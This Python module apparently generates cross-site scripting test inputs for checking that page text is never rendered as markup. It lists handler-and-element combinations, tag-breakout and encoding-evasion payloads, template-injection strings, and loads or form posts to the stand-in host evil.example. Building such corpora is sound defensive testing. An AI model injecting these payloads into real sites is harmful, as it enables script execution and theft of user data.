"""Markup that would run if a page's text were ever taken for markup: handlers × elements × disguises."""

CALL = "alert(document.domain)"
_HANDLERS = (
    "onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onpointerenter",
    "onanimationstart", "onbegin", "onpageshow",
)  # fmt: skip
_ELEMENTS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe src=x",
    "select autofocus", "marquee", "a href=x id=x tabindex=1",
)  # fmt: skip
_ALONE = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</noscript><img src=x onerror={CALL}>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<SCRIPT SRC=https://evil.example/x.js>{CALL}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<img src=https://evil.example/x.png>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<video poster=https://evil.example/x.png></video>",
    "<iframe src=https://evil.example></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<form action=javascript:{CALL}><input type=submit></form>",
    f"<isindex action=javascript:{CALL} type=image>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a>",
    f"<a href='&#106;avascript:{CALL}'>x</a>",
    f"<a href=data:text/html,<script>{CALL}</script>>x</a>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/x.svg#x></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<template><script>{CALL}</script></template>",
    f"<div style=background:url(https://evil.example/x.png) onmouseover={CALL}>",
    f"<div style='animation:x 1s' onanimationstart={CALL}>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    "{{ config }}{% raw %}{{ 7*7 }}",
    f"${{{CALL}}}",
    f"javascript:{CALL}",
    f"data-hx-get=https://evil.example onclick={CALL}",
    "<div data-hx-get=https://evil.example data-hx-trigger=load></div>",
    f"<div hx-on:load={CALL} hx-on::after-init={CALL}></div>",
    f"<img src=x onerror=&#97;lert(1) onload={CALL}>",
    f"\u202e<script>{CALL}</script>\u202c",
    f"\x0c<img\x0csrc=x\x0conerror={CALL}>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"<img/src='x'/onerror={CALL}/>",
    f"<x onclick={CALL}>x",
    f"<button popovertarget=p onclick={CALL}>x</button><div popover id=p onbeforetoggle={CALL}>",
    f"<input type=hidden oncontentvisibilityautostatechange={CALL} style=content-visibility:auto>",
    "<dialog open><form method=post action=https://evil.example><input name=a></form></dialog>",
)


def payloads() -> list[str]:
    """All of them, each once."""
    made = [f"<{element} {handler}={CALL}>" for element in _ELEMENTS for handler in _HANDLERS]
    made += [f'"><{element} {_HANDLERS[1]}={CALL} x="' for element in _ELEMENTS]
    made += [f"'><{element} {_HANDLERS[1]}={CALL} x='" for element in _ELEMENTS]
    made += [f'" {handler}={CALL} autofocus tabindex=1 x="' for handler in _HANDLERS]
    made += [f"' {handler}={CALL} autofocus tabindex=1 x='" for handler in _HANDLERS]
    return list(dict.fromkeys((*_ALONE, *made)))
